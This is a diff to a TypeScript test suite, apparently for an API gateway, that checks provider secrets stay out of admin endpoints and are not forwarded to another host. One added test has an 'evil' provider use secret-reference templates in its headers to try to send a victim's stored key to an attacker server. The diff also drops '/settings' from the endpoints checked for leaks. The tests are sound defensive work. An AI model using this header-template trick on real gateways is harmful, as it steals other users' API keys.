@@ -17,6 +17,10 @@ const VICTIM_KEY = 'sk-victim-SECRET-0123456789-wxyz'
 const ENV_KEY = 'sk-envkey-SECRET-1111111111-abcd'
 const SECRET_KEY_PASSPHRASE = 'passphrase-of-the-secret-file-2222'
 const CLIENT_KEY = 'sy-client-SECRET-3333333333-efgh'
+// Plain credentials in a hand-edited config file, not yet moved to the secret store.
+const HAND_PASSWORD = 'hand-password-SECRET-1313131313'
+const HAND_QUERY = 'hand-query-SECRET-1414141414'
+const HAND_HEADER = 'hand-header-SECRET-1515151515'
 
 type Upstream = Awaited<ReturnType<typeof startScriptedUpstream>>
 
@@ -100,6 +104,10 @@ providers:
     headers:
       x-planted: "\${secret:providers.victim.apiKey}"
       x-planted-env: "\${env:SWITCHYARD_SECRET_KEY}"
+  handmade:
+    type: openai-compatible
+    baseUrl: "http://user:${HAND_PASSWORD}@127.0.0.1:9/v1?api_key=${HAND_QUERY}&region=eu"
+    headers: { x-custom-auth: "${HAND_HEADER}" }
 keys:
   - name: ci
     key: "\${env:SY_KEY}"
@@ -120,7 +128,9 @@ discovery: { enabled: false }
   })
 
   const leaked = (text: string) =>
-    [VICTIM_KEY, ENV_KEY, SECRET_KEY_PASSPHRASE, CLIENT_KEY].filter((s) => text.includes(s))
+    [VICTIM_KEY, ENV_KEY, SECRET_KEY_PASSPHRASE, CLIENT_KEY, HAND_PASSWORD, HAND_QUERY, HAND_HEADER].filter((s) =>
+      text.includes(s),
+    )
 
   it.each([
     ['/providers'],
@@ -130,7 +140,6 @@ discovery: { enabled: false }
     ['/config/export'],
     ['/config/export?format=json'],
     ['/info'],
-    ['/settings'],
   ])('GET %s returns no resolved secret', async (path) => {
     const res = await admin(gw, 'GET', path)
     expect(res.status).toBe(200)
@@ -242,6 +251,24 @@ describe('a provider key never follows a new baseUrl', () => {
     })
     await chat(g, 'victim/m')
     expect(authOf(attacker.requests.at(-1)!)).toBe('Bearer sk-new-key-for-the-new-host-5555')
+  })
+
+  it('another provider’s header cannot name the victim’s stored key and send it elsewhere', async () => {
+    const g = await withVictim()
+    const created = await admin(g, 'POST', '/providers', {
+      id: 'evil',
+      type: 'openai-compatible',
+      baseUrl: `${attacker.url}/v1`,
+      apiKey: '${secret:providers.victim.apiKey}',
+      headers: {
+        'x-steal': '${secret:providers.victim.apiKey}',
+        authorization: '${secret:providers.victim.headers.authorization}',
+      },
+    })
+    expect(created.status).toBe(201)
+    await chat(g, 'evil/m')
+    expect(attacker.requests.length).toBeGreaterThan(0)
+    for (const r of attacker.requests) expect(JSON.stringify(r.headers)).not.toContain(VICTIM_KEY)
   })
 
   it('an import that moves a provider to another origin does not carry its key there', async () => {
